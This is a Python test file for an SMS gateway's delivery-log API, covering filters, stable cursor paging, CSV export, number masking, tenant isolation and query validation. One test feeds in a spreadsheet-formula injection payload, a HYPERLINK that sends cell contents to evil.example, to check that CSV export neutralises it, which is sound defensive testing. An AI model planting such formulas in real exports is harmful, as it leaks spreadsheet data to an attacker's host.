"""The delivery log: filters, stable keyset pages while messages arrive, CSV, masking."""

from __future__ import annotations

import csv
import io

from tests.conftest import Gateway


async def _logs(gw: Gateway, role: str = "campaign", **query: str) -> dict:  # type: ignore[type-arg]
    resp = await gw.client.get("/v1/logs", params=query, headers=gw.auth(role=role))
    assert resp.status == 200, await resp.text()
    return await resp.json()  # type: ignore[no-any-return]


async def test_newest_first_and_filters(gw: Gateway) -> None:
    """Items come newest first; each filter narrows them."""
    a = await gw.send(to="13800000001")
    gw.clock.advance(10)
    b = await gw.send(to="13000000002", route="sms")
    await gw.send(tenant="bank_b")
    while await gw.services.dispatcher.run_once():
        pass
    out = await _logs(gw)
    assert [i["message_id"] for i in out["items"]] == [b, a] and out["next_cursor"] is None
    assert [i["message_id"] for i in (await _logs(gw, provider="cucc"))["items"]] == [b]
    assert [i["message_id"] for i in (await _logs(gw, to="138 0000 0001"))["items"]] == [a]
    assert [
        i["message_id"] for i in (await _logs(gw, status="submitted", route="sms"))["items"]
    ] == [b, a]
    first = out["items"][1]["created_at"]
    assert [
        i["message_id"] for i in (await _logs(gw, since=out["items"][0]["created_at"]))["items"]
    ] == [b]
    assert [
        i["message_id"] for i in (await _logs(gw, until=out["items"][0]["created_at"]))["items"]
    ] == [a]
    assert first.endswith("+00:00")


async def test_pages_stay_stable_while_messages_arrive(gw: Gateway) -> None:
    """Paging with the cursor sees every message once, even as new ones arrive between pages."""
    older = [await gw.send(to=f"1380000{i:04d}") for i in range(25)]
    seen: list[str] = []
    page = await _logs(gw, limit="10")
    while True:
        seen += [i["message_id"] for i in page["items"]]
        for _ in range(3):  # new messages arrive between pages
            await gw.send(to="13900000000")
        if page["next_cursor"] is None:
            break
        page = await _logs(gw, limit="10", cursor=page["next_cursor"])
    assert seen == list(reversed(older))


async def test_csv_streams_the_same(gw: Gateway) -> None:
    """Accept: text/csv gives the same rows as CSV."""
    ids = [await gw.send(to=f"1380000{i:04d}") for i in range(5)]
    resp = await gw.client.get("/v1/logs", headers=gw.auth() | {"Accept": "text/csv"})
    assert resp.status == 200 and resp.content_type == "text/csv"
    rows = list(csv.DictReader(io.StringIO(await resp.text())))
    assert [r["message_id"] for r in rows] == list(reversed(ids))
    assert rows[0]["to"] == "+8613800000004"


async def test_csv_cells_never_run_as_formulas(gw: Gateway) -> None:
    """A client_ref a spreadsheet would run (``=HYPERLINK(…)``) comes out quoted; the JSON
    log keeps it as sent, and the number stays E.164."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    await gw.send(to="13812345678", client_ref=formula)
    resp = await gw.client.get("/v1/logs", headers=gw.auth() | {"Accept": "text/csv"})
    [row] = list(csv.DictReader(io.StringIO(await resp.text())))
    assert row["client_ref"] == "'" + formula and row["to"] == "+8613812345678"
    assert (await _logs(gw))["items"][0]["client_ref"] == formula


async def test_ops_role_sees_masked_numbers(gw: Gateway) -> None:
    """Numbers are masked for the ops role, in JSON and in CSV."""
    await gw.send(to="13812345678")
    assert (await _logs(gw, role="ops"))["items"][0]["to"] == "+86138****5678"
    resp = await gw.client.get("/v1/logs", headers=gw.auth(role="ops") | {"Accept": "text/csv"})
    text = await resp.text()
    assert "+86138****5678" in text and "13812345678" not in text


async def test_bad_queries_are_named(gw: Gateway) -> None:
    """Bad filters and forged cursors are 422 naming the query parameter."""
    for query, name in (
        ({"status": "lost"}, "status"),
        ({"route": "fax"}, "route"),
        ({"limit": "0"}, "limit"),
        ({"cursor": "bm90LWEtY3Vyc29y"}, "cursor"),
        ({"since": "yesterday"}, "since"),
        ({"to": "12"}, "to"),
    ):
        resp = await gw.client.get("/v1/logs", params=query, headers=gw.auth())
        assert resp.status == 422, query
        assert (await resp.json())["errors"][0]["loc"] == ["query", name]


async def test_other_tenants_messages_are_not_listed(gw: Gateway) -> None:
    """A tenant's log holds only its own messages."""
    await gw.send(tenant="bank_b")
    assert (await _logs(gw))["items"] == []


async def test_a_misspelt_filter_is_refused_not_ignored(gw: Gateway) -> None:
    """An unknown query parameter is a 422 naming it: ignored, the unfiltered log would
    read as the filtered one. So is a filter given twice, of which one would be ignored."""
    await gw.send()
    resp = await gw.client.get("/v1/logs?stauts=failed&limit=5", headers=gw.auth())
    assert resp.status == 422
    problem = await resp.json()
    assert [e["loc"] for e in problem["errors"]] == [["query", "stauts"]]
    ok = await gw.client.get("/v1/logs?status=failed&limit=5", headers=gw.auth())
    assert ok.status == 200 and (await ok.json())["items"] == []
    twice = await gw.client.get("/v1/logs?status=failed&status=accepted", headers=gw.auth())
    assert twice.status == 422
    assert [e["loc"] for e in (await twice.json())["errors"]] == [["query", "status"]]
